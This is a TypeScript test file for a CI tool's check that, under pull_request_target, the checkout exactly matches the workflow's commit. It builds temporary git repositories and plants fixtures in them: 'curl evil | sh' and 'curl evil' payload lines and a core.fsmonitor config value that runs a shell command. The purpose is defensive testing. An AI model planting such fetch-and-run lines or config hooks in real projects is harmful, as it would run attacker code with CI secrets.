/** Is the checkout under a privileged event exactly the workflow's commit? Facts from real git repositories. */
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { assessCheckout, inspectCheckout, parseStatus, type CheckoutFacts } from '../../src/events/trusted-checkout.js'

const base = 'b'.repeat(40)
const head = 'c'.repeat(40)
const context = { eventName: 'pull_request_target', allowUntrustedCode: false }

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8' }).trim()
}

/** A committed repository with a tracked .gitignore for node_modules/, as a fresh actions/checkout leaves it. */
function checkout(): { root: string; sha: string } {
  const root = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'go-no-go-checkout-')))
  git(root, 'init', '-q')
  mkdirSync(path.join(root, '.github'))
  writeFileSync(path.join(root, '.github/go-no-go.yml'), 'version: 1\n')
  writeFileSync(path.join(root, '.gitignore'), 'node_modules/\n')
  writeFileSync(path.join(root, 'build.sh'), 'echo building\n')
  git(root, 'add', '.')
  git(root, 'commit', '-q', '-m', 'base')
  return { root, sha: git(root, 'rev-parse', 'HEAD') }
}

async function differences(root: string, sha: string, workingDirectory = root) {
  const facts = await inspectCheckout({ workflowSha: sha, workingDirectory, workspaceRoot: root })
  const decision = assessCheckout(facts, context)
  // The first line says what was refused and the last how to get on; the differences are between.
  return decision.run ? [] : decision.problems.slice(1, -1).map((problem) => problem.message)
}

describe('assessCheckout', () => {
  const clean: CheckoutFacts = {
    workflowSha: base,
    workingDirectory: '/ws',
    workspaceRoot: '/ws',
    checkout: { topLevel: '/ws', workspaceTopLevel: '/ws', head: base, modified: [], untracked: [], hiddenByUntrackedIgnoreFiles: [] }
  }

  it('runs on exactly the workflow commit, reading the checklist from it', () => {
    expect(assessCheckout(clean, context)).toEqual({ run: true, readChecklistFrom: base })
  })

  it('refuses another HEAD, naming both commits, the fork and the ways out', () => {
    const decision = assessCheckout({ ...clean, checkout: { ...clean.checkout!, head } }, { ...context, headRepository: 'mallory/repo', baseRepository: 'octo/repo' })
    expect(decision.run).toBe(false)
    if (!decision.run) {
      expect(decision.problems.map((problem) => problem.code)).toEqual(['untrusted-checkout', 'untrusted-checkout', 'untrusted-checkout'])
      const [lead, difference, wayOut] = decision.problems.map((problem) => problem.message)
      expect(lead).toMatch(/^Refusing to run gates under `pull_request_target`, which has a write token and secrets: .*; the pull request comes from the fork mallory\/repo$/)
      expect(difference).toBe("HEAD is cccccccccccc, not the workflow's commit bbbbbbbbbbbb")
      expect(wayOut).toMatch(/allow-untrusted-code: true/)
    }
  })

  it('refuses a workspace that is not a checkout, and a working-directory outside the workspace', () => {
    const notCheckout = assessCheckout({ workflowSha: base, workingDirectory: '/ws', workspaceRoot: '/ws' }, context)
    expect(!notCheckout.run && notCheckout.problems[1].message).toBe('/ws is not in a git checkout')
    const outside = assessCheckout({ ...clean, workingDirectory: '/elsewhere' }, context)
    expect(!outside.run && outside.problems[1].message).toBe('`working-directory` leads outside the workspace, to /elsewhere')
  })

  it('lists at most five paths of each kind, quoted so odd names stay visible', () => {
    const untracked = ['a b/', 'line\nbreak', 'c', 'd', 'e', 'f', 'g']
    const decision = assessCheckout({ ...clean, checkout: { ...clean.checkout!, untracked } }, context)
    expect(!decision.run && decision.problems[1].message).toMatch(/7 untracked files that git does not ignore: "a b\/", "line\\nbreak", "c", "d", "e" and 2 more/)
  })

  it('with allow-untrusted-code runs anyway, but still reads the checklist from the workflow commit', () => {
    expect(assessCheckout({ ...clean, checkout: { ...clean.checkout!, head } }, { ...context, allowUntrustedCode: true })).toEqual({ run: true, readChecklistFrom: base })
  })
})

describe('parseStatus', () => {
  it('splits modified, untracked and ignored, skipping a rename’s original path', () => {
    expect(parseStatus(' M a\0R  new name\0old name\0?? pr/\0!! node_modules/\0')).toEqual({ modified: ['a', 'new name'], untracked: ['pr/'], ignored: ['node_modules/'] })
  })
})

describe('inspectCheckout on real checkouts', () => {
  it('trusts a fresh checkout, with ignored build output beside it', async () => {
    const { root, sha } = checkout()
    mkdirSync(path.join(root, 'node_modules/left-pad'), { recursive: true })
    writeFileSync(path.join(root, 'node_modules/left-pad/index.js'), '')
    expect(await differences(root, sha)).toEqual([])
  })

  it('refuses an untracked directory (an artifact unpacked into the workspace)', async () => {
    const { root, sha } = checkout()
    mkdirSync(path.join(root, 'pr-artifact'))
    writeFileSync(path.join(root, 'pr-artifact/payload.sh'), 'curl evil\n')
    expect(await differences(root, sha)).toEqual([expect.stringMatching(/1 untracked file that git does not ignore: "pr-artifact\/"/)])
  })

  it('refuses a modified tracked file and a staged one', async () => {
    const { root, sha } = checkout()
    writeFileSync(path.join(root, 'build.sh'), 'curl evil | sh\n')
    writeFileSync(path.join(root, '.gitignore'), '*\n')
    git(root, 'add', '.gitignore')
    expect(await differences(root, sha)).toEqual([expect.stringMatching(/2 tracked files modified: "\.gitignore", "build\.sh"/)])
  })

  it('refuses another HEAD', async () => {
    const { root, sha } = checkout()
    git(root, 'commit', '-q', '--allow-empty', '-m', 'pull request head')
    expect(await differences(root, sha)).toEqual([expect.stringMatching(new RegExp(`HEAD is [0-9a-f]{12}, not the workflow's commit ${sha.slice(0, 12)}`))])
  })

  it('refuses files hidden by an unpacked .gitignore that ignores itself', async () => {
    const { root, sha } = checkout()
    mkdirSync(path.join(root, 'evil'))
    writeFileSync(path.join(root, 'evil/.gitignore'), '*\n')
    writeFileSync(path.join(root, 'evil/payload.sh'), 'curl evil\n')
    expect(git(root, 'status', '--porcelain')).toBe('')
    expect(await differences(root, sha)).toEqual([expect.stringMatching(/2 files hidden by an ignore file that is not in the commit: "evil\/\.gitignore", "evil\/payload\.sh"/)])
  })

  it('refuses a working-directory in a nested checkout of the pull request, or outside the workspace', async () => {
    const { root, sha } = checkout()
    const nested = path.join(root, 'node_modules', 'pr')
    mkdirSync(nested, { recursive: true })
    git(nested, 'init', '-q')
    git(nested, 'commit', '-q', '--allow-empty', '-m', 'pull request')
    expect(await differences(root, sha, nested)).toEqual([
      "`working-directory` leads into another git checkout, node_modules/pr, not the workflow's",
      expect.stringMatching(/HEAD is [0-9a-f]{12}, not the workflow's commit/)
    ])

    const { root: other } = checkout()
    symlinkSync(other, path.join(root, 'node_modules', 'link'))
    const [outside] = await differences(root, sha, path.join(root, 'node_modules', 'link'))
    expect(outside).toMatch(/`working-directory` leads outside the workspace/)
  })

  it('refuses a directory that is not a git checkout', async () => {
    const root = mkdtempSync(path.join(os.tmpdir(), 'go-no-go-plain-'))
    expect(await differences(root, base)).toEqual([expect.stringMatching(/is not in a git checkout \(git rev-parse: .*not a git repository/)])
  })

  it('never runs an fsmonitor hook the checkout’s own config names while looking', async () => {
    const { root, sha } = checkout()
    const marker = path.join(root, '..', `fsmonitor-ran-${path.basename(root)}`)
    git(root, 'config', 'core.fsmonitor', `touch ${marker}; false`)
    await differences(root, sha)
    expect(existsSync(marker)).toBe(false)
    // A plain `git status` would have run it.
    git(root, 'status', '--porcelain')
    expect(existsSync(marker)).toBe(true)
  })
})
